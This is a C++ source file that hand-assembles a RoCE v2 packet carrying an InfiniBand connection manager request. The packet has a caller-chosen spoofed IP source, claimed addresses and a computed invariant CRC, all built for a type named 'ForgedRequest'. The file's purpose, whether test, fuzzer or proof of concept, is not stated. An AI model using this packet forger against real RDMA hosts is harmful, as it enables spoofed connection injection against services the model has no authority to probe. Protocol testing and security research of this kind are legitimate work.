// SPDX-License-Identifier: GPL-2.0
// Layouts: InfiniBand Architecture Specification volume 1, 9.2 (BTH), 9.3.3 (DETH), 13.4.3
// (MAD), 12.6.5 (REQ), its annexes A11 (private data of IP) and A17 (RoCE v2, invariant CRC).
#include "request.hh"

#include <cstring>

namespace peer {
namespace {

constexpr size_t kIp = 20, kUdp = 8, kBth = 12, kDeth = 8, kMad = 256, kCrc = 4;
constexpr size_t kRequest = 24, kPrivate = kRequest + 140; // in the MAD
constexpr uint16_t kRocePort = 4791;
constexpr uint64_t kTcpServices = 0x01060000;

class Writer {
public:
	explicit Writer(size_t size) : bytes_(size) {}

	void put(size_t at, uint64_t value, size_t size)
	{
		for (size_t i = 0; i < size; i++)
			bytes_[at + i] = static_cast<std::byte>(value >> 8 * (size - 1 - i));
	}
	void copy(size_t at, const void *from, size_t size)
	{
		std::memcpy(&bytes_[at], from, size);
	}
	// ::ffff:a.b.c.d
	void gid(size_t at, in_addr address)
	{
		put(at + 10, 0xffff, 2);
		copy(at + 12, &address, sizeof(address));
	}
	Bytes &bytes() { return bytes_; }

private:
	Bytes bytes_;
};

uint32_t crc32(uint32_t crc, const std::byte *data, size_t size)
{
	for (size_t i = 0; i < size; i++) {
		crc ^= static_cast<uint32_t>(data[i]);
		for (int bit = 0; bit < 8; bit++)
			crc = crc >> 1 ^ (crc & 1 ? 0xedb88320 : 0);
	}
	return crc;
}

// Of the packet with all that a router may change read as ones, and eight bytes of ones before it.
uint32_t invariant_crc(Bytes packet)
{
	constexpr std::byte kOnes{0xff};
	packet[1] = packet[8] = packet[10] = packet[11] = kOnes;
	packet[kIp + 6] = packet[kIp + 7] = kOnes;
	packet[kIp + kUdp + 4] = kOnes;
	const Bytes local(8, kOnes);
	const uint32_t seed = crc32(0xffffffff, local.data(), local.size());
	return ~crc32(seed, packet.data(), packet.size() - kCrc);
}

void put_request(Writer &w, size_t at, const ForgedRequest &r)
{
	const size_t req = at + kRequest;
	w.put(at, 0x01070203, 4); // version, class of the connection manager, its version, SEND
	w.put(at + 8, uint64_t{0x666f} << 32 | r.number, 8);
	w.put(at + 16, 0x0010, 2);
	w.put(req, r.number, 4);
	w.put(req + 8, kTcpServices + r.port, 8);
	w.put(req + 16, 0x0200'0000'0000'0000 | r.number, 8);
	w.put(req + 32, (r.number & 0x7fffff) + 0x1000, 3);
	w.put(req + 35, 1, 1);
	w.put(req + 39, 1, 1);
	w.put(req + 43, 20 << 3 | 0 << 1 | 1, 1); // patience, reliable connection, credits
	w.put(req + 44, r.number & 0xffffff, 3);
	w.put(req + 47, 20 << 3 | 7, 1);
	w.put(req + 48, 0xffff, 2);
	w.put(req + 50, 3 << 4 | 7, 1); // 1024 bytes
	w.put(req + 51, 15 << 4, 1);
	w.put(req + 52, 0xffffffff, 4);
	w.gid(req + 56, r.says);
	w.gid(req + 72, r.to);
	w.put(req + 91, 3, 1);
	w.put(req + 93, 64, 1);
	w.put(req + 94, 1 << 3, 1); // one subnet
	w.put(req + 95, 18 << 3, 1);

	const size_t data = at + kPrivate;
	w.put(data + 1, 4 << 4, 1);
	w.put(data + 2, 0x4e20, 2);
	w.copy(data + 16, &r.says, sizeof(r.says));
	w.copy(data + 32, &r.to, sizeof(r.to));
	w.copy(data + 36, &r.message, sizeof(r.message));
}

} // namespace

Bytes packet_of(const ForgedRequest &r)
{
	constexpr size_t kSize = kIp + kUdp + kBth + kDeth + kMad + kCrc;
	Writer w(kSize);
	w.put(0, 0x45, 1);
	w.put(2, kSize, 2);
	w.put(4, 1 + r.number % 0xffff, 2); // 0 would be filled in by the kernel
	w.put(6, 0x4000, 2);
	w.put(8, 64, 1);
	w.put(9, IPPROTO_UDP, 1);
	w.copy(12, &r.from, sizeof(r.from));
	w.copy(16, &r.to, sizeof(r.to));

	w.put(kIp, 0xc000, 2);
	w.put(kIp + 2, kRocePort, 2);
	w.put(kIp + 4, kSize - kIp, 2);

	const size_t bth = kIp + kUdp, deth = bth + kBth;
	w.put(bth, 0x64, 1); // SEND only of a datagram
	w.put(bth + 2, 0xffff, 2);
	w.put(bth + 5, 1, 3); // to the queue pair of the connection manager, from one
	w.put(bth + 9, r.number & 0xffffff, 3);
	w.put(deth, 0x80010000, 4);
	w.put(deth + 5, 1, 3);
	put_request(w, deth + kDeth, r);

	const uint32_t crc = invariant_crc(w.bytes());
	for (size_t i = 0; i < kCrc; i++)
		w.put(kSize - kCrc + i, crc >> 8 * i & 0xff, 1);
	return std::move(w.bytes());
}

} // namespace peer
